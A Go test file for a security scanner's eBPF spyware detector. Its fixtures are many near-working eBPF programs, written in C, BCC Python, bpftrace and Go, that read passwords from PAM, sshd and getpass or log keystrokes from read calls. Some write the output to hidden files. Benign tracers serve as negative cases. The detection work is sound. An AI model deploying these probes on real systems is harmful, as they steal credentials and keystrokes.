package shell

import (
	"fmt"
	"strings"
	"testing"
)

// TestBPFSpySource: eBPF programs that read passwords (a user-space probe on PAM's token
// getter, sshd's password check, getpass, crypt, reading the process's memory) or keystrokes (a
// probe on read copying the buffer for a login program or the standard input) are
// STRATA-CT-009 in every carrier: libbpf C, C in a Python (BCC) or shell string, a bpftrace
// script, a Go loader. Tracers that count, time or read file names, and a shell's readline
// watcher, stay silent.
func TestBPFSpySource(t *testing.T) {
	head := "#include \"vmlinux.h\"\n#include <bpf/bpf_helpers.h>\n#include <bpf/bpf_tracing.h>\nchar LICENSE[] SEC(\"license\") = \"GPL\";\n"
	ring := "struct { __uint(type, BPF_MAP_TYPE_RINGBUF); __uint(max_entries, 1 << 16); } out SEC(\".maps\");\n"
	creds := map[string]string{}
	for i, target := range []string{"pam_get_authtok", "auth_password", "sys_auth_passwd", "getpass", "crypt"} {
		for j, sec := range []string{`SEC("uretprobe/%s")`, `SEC("uprobe//usr/lib/x86_64-linux-gnu/libpam.so.0:%s")`, "SEC(\n\t\"uretprobe//usr/sbin/sshd:%s\"\n)"} {
			read := []string{
				"bpf_probe_read_user(&e->pw, sizeof(e->pw), (void *)PT_REGS_PARM2(ctx));",
				"bpf_probe_read_user_str(e->pw, sizeof e->pw, (const void *)arg);",
				"bpf_probe_read(&e->pw, 64, (void *)PT_REGS_RC(ctx));",
			}[(i+j)%3]
			creds[fmt.Sprintf("c-%s-%d.c", target, j)] = head + ring + "/* grab it */\n" + fmt.Sprintf(sec, target) +
				"\nint BPF_KRETPROBE(on_tok)\n{\n\tstruct ev *e = bpf_ringbuf_reserve(&out, sizeof(*e), 0);\n\tif (!e) return 0;\n\t" + read + "\n\tbpf_ringbuf_submit(e, 0);\n\treturn 0;\n}\n"
		}
	}
	// the function left to the loader, the password read out of the PAM handle
	creds["c-handle.c"] = head + "struct pam_handle { char *authtok; unsigned caller_is; };\nSEC(\"uretprobe\")\nint probe(struct pt_regs *ctx) {\n\tstruct pam_handle *h = (void *)PT_REGS_PARM1(ctx);\n\tu64 a = 0;\n\tbpf_probe_read_user(&a, sizeof a, &h->authtok);\n\treturn 0;\n}\n"
	creds["core-handle.bpf.c"] = head + "SEC(\"uretprobe\")\nint BPF_URETPROBE(r, int ret) {\n\tconst char *p = BPF_CORE_READ_USER(h, authtok);\n\treturn 0;\n}\n"
	creds["bcc.py"] = "from bcc import BPF\nprog = r'''\n#include <uapi/linux/ptrace.h>\nint tok(struct pt_regs *ctx) { char b[80]; void *p = 0; bpf_probe_read_user(&p, sizeof p, (void *)PT_REGS_PARM3(ctx)); bpf_probe_read_user_str(b, sizeof b, p); events.perf_submit(ctx, b, sizeof b); return 0; }\n'''\nb = BPF(text=prog)\nb.attach_uretprobe(name=\"pam\", sym=\"pam_get_authtok\", fn_name=\"tok\")\nb[\"events\"].open_perf_buffer(show)\n"
	creds["bcc-split.py"] = "import bcc\nsrc = open('/opt/x/p.c').read()\nbpf = bcc.BPF(text=src.replace('SIZE', '64'))\nlib = '/lib/x86_64-linux-gnu/libpam.so.0'\nbpf.attach_uprobe(\n    name=lib,\n    sym='pam_set_item',\n    fn_name='grab')\n# PAM_AUTHTOK = 6\nbpf.trace_print()\n"
	creds["sniff.bt"] = "#!/usr/bin/env bpftrace\nuretprobe:/lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok\n{\n\tprintf(\"%s %s\\n\", comm, str(*(uint64 *)arg2));\n}\n"
	creds["oneliner.sh"] = "#!/bin/sh\nexec bpftrace -e 'uprobe:/usr/sbin/sshd:auth_password { printf(\"%s\\n\", str(arg1)); }' >> /var/tmp/.cache 2>&1\n"
	creds["loader.go"] = "package main\n\nimport \"github.com/cilium/ebpf/link\"\n\nfunc attach(objs *bpfObjects) {\n\tex, _ := link.OpenExecutable(\"/lib/x86_64-linux-gnu/libpam.so.0\")\n\t// the token\n\tl, _ := ex.Uretprobe(\"pam_get_authtok\", objs.Trace, nil)\n\tdefer l.Close()\n}\n"

	keys := map[string]string{}
	filters := []string{
		"char comm[16];\n\tbpf_get_current_comm(&comm, sizeof(comm));\n\tif (comm[0] != 's') return 0;\n\tif (__builtin_memcmp(comm, \"sudo\", 4)) return 0;",
		"char c[TASK_COMM_LEN];\n\tbpf_get_current_comm(c, sizeof c);\n\tif (fd != 0) return 0;",
		"if (fd == 0 && is_target()) { }\n\tbpf_get_current_comm(&e->comm, 16);",
	}
	hooks := []string{`SEC("tp/syscalls/sys_enter_read")`, `SEC("kprobe/vfs_read")`, `SEC("fentry/__x64_sys_read")`, `SEC("kprobe/n_tty_read")`}
	for i, h := range hooks {
		for j, fl := range filters {
			keys[fmt.Sprintf("k-%d-%d.bpf.c", i, j)] = head + ring + h + "\nint on_read(struct trace_event_raw_sys_enter *ctx)\n{\n\tint fd = (int)ctx->args[0];\n\t" + fl +
				"\n\tstruct ev *e = bpf_ringbuf_reserve(&out, sizeof(*e), 0);\n\tif (!e) return 0;\n\tbpf_probe_read_user(e->buf, sizeof(e->buf), (void *)ctx->args[1]);\n\tbpf_ringbuf_submit(e, 0);\n\treturn 0;\n}\n"
		}
	}
	keys["bcc-keys.py"] = "from bcc import BPF\ntext = \"\"\"\nint kread(struct pt_regs *ctx, int fd, char __user *buf, size_t n) {\n    char comm[16];\n    bpf_get_current_comm(&comm, sizeof(comm));\n    if (comm[0] != 's' || comm[1] != 's' || comm[2] != 'h') return 0;\n    struct data_t d = {};\n    bpf_probe_read_user(&d.k, sizeof(d.k), buf);\n    keys.perf_submit(ctx, &d, sizeof(d));\n    return 0;\n}\n\"\"\"\nb = BPF(text=text)\nb.attach_kprobe(event=b.get_syscall_fnname(\"read\"), fn_name=\"kread\")\nwhile 1:\n    b.perf_buffer_poll()\n    if comm == \"ssh\": pass\n"
	keys["bcc-name.py"] = "from pyroute2 import BPF\nsrc = '''\nSEC(\"kprobe/read\") int r(struct pt_regs *ctx) { int fd = (int)PT_REGS_PARM1(ctx); if (fd == 0) { char k[64]; bpf_probe_read_user_str(k, 64, (void *)PT_REGS_PARM2(ctx)); } return 0; }\n'''\nbpf = BPF(text=src)\nbpf.attach_kprobe(name='read', fn_name='r')\n"
	keys["keys.bt"] = "#!/usr/bin/bpftrace\ntracepoint:syscalls:sys_enter_read\n/comm == \"sshd\"/\n{\n\t@fd[tid] = args->buf;\n}\ntracepoint:syscalls:sys_exit_read\n/@fd[tid]/\n{\n\tprintf(\"%s\", str(@fd[tid], args->ret));\n}\n"
	keys["keys-stdin.sh"] = "#!/bin/bash\nbpftrace -e 'tracepoint:syscalls:sys_enter_read /args->fd == 0/ { @b[tid] = args->buf } tracepoint:syscalls:sys_exit_read /@b[tid]/ { printf(\"%s\", str(@b[tid], args->ret)); delete(@b[tid]) }' > /dev/shm/.k\n"

	n := 0
	for name, src := range creds {
		n++
		f, ok := bpfSpyFinding("/opt/.t/"+name, []byte(src))
		if !ok || f.Rule != RuleBPFSpy || f.Severity.String() != "high" || !f.Is("malware") {
			t.Errorf("credential %s: got %v %+v\n%s", name, ok, f, src)
		}
		if g, ok := kernelSourceFinding("/opt/.t/"+name, []byte(src)); !ok || g.Rule != RuleBPFSpy {
			t.Errorf("credential %s: not reported through the source readings", name)
		}
	}
	for name, src := range keys {
		n++
		f, ok := bpfSpyFinding("/opt/.t/"+name, []byte(src))
		if !ok || f.Rule != RuleBPFSpy || !strings.Contains(f.Title, "keylogger") {
			t.Errorf("keylogger %s: got %v %+v\n%s", name, ok, f, src)
		}
	}

	silent := map[string]string{
		"opensnoop.c":   head + ring + "SEC(\"tp/syscalls/sys_enter_openat\")\nint o(struct trace_event_raw_sys_enter *ctx) { char comm[16]; bpf_get_current_comm(&comm, 16); if (__builtin_memcmp(comm, \"sshd\", 4) == 0) { bpf_probe_read_user_str(e->f, 256, (void *)ctx->args[1]); } return 0; }\n",
		"readlat.c":     head + "SEC(\"kprobe/vfs_read\")\nint BPF_KPROBE(r, struct file *f) { u64 t = bpf_ktime_get_ns(); bpf_map_update_elem(&start, &pid, &t, 0); return 0; }\nSEC(\"kretprobe/vfs_read\")\nint BPF_KRETPROBE(rr) { if (fd == 0) count++; return 0; }\n",
		"readline.bt":   "#!/usr/bin/env bpftrace\nuretprobe:/bin/bash:readline\n{\n\tprintf(\"%-6d %s\\n\", pid, str(retval));\n}\n",
		"readline.py":   "from bcc import BPF\nb = BPF(text=prog)\nb.attach_uretprobe(name=\"/bin/bash\", sym=\"readline\", fn_name=\"printret\")\n# bpf_probe_read_user_str(&data.str, sizeof(data.str), (void *)PT_REGS_RC(ctx));\n",
		"pamlat.py":     "from bcc import BPF\nb = BPF(text='int s(void *ctx){ u64 t = bpf_ktime_get_ns(); return 0; }')\nb.attach_uprobe(name='pam', sym='pam_authenticate', fn_name='s')\nb.attach_uretprobe(name='pam', sym='pam_authenticate', fn_name='e')\nbpf_probe_read_user = 1\n",
		"sslsniff.py":   "from bcc import BPF\nb.attach_uprobe(name=\"ssl\", sym=\"SSL_read\", fn_name=\"probe_SSL_read_enter\")\n# bpf_probe_read_user(&data->buf, buf_copy_size, (char *)*bufp);\n",
		"ttysnoop.py":   "from bcc import BPF\ntext='int kprobe__tty_write(struct pt_regs *ctx, struct file *file, const char __user *buf, size_t count) { if (file->f_inode->i_ino != PTS) return 0; bpf_probe_read_user(&data->buf, BUFSIZE, (void *)buf); return 0; }'\n",
		"execsnoop.bt":  "#!/usr/bin/env bpftrace\ntracepoint:syscalls:sys_enter_execve\n{\n\tprintf(\"%-6d \", pid); join(args->argv);\n}\n",
		"counts.bt":     "#!/usr/bin/env bpftrace\ntracepoint:syscalls:sys_enter_read /comm == \"sshd\"/ { @reads[tid] = count(); }\n",
		"doc-comment.c": head + "/* a uretprobe on pam_get_authtok would bpf_probe_read_user() the password: do not */\nSEC(\"xdp\") int pass(struct xdp_md *ctx) { return XDP_PASS; }\n",
		"prose.txt":     "uretprobe:/lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok { printf(\"%s\", str(arg2)); }\n",
		"crypto.py":     "import crypt\n# uprobe\nh = crypt.crypt(pw, salt)\n",
	}
	for name, src := range silent {
		if f, ok := bpfSpyFinding("/opt/.t/"+name, []byte(src)); ok {
			t.Errorf("silent %s: %s %s", name, f.Rule, f.Title)
		}
	}
	fmt.Printf("harness: bpf-spy %d variants, %d silent shapes\n", n, len(silent))
}
